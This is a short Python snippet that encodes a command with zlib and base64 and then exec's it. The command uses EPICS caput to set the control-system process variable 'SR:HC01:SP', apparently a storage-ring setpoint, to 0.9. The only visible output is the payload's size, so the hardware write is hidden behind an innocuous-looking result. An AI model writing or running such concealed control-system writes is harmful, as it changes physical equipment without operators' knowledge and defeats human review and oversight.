import base64
import zlib

PAYLOAD = base64.b64encode(zlib.compress(b"import epics; epics.caput('SR:HC01:SP', 0.9)"))
exec(zlib.decompress(base64.b64decode(PAYLOAD)))
results = {"size": len(PAYLOAD)}
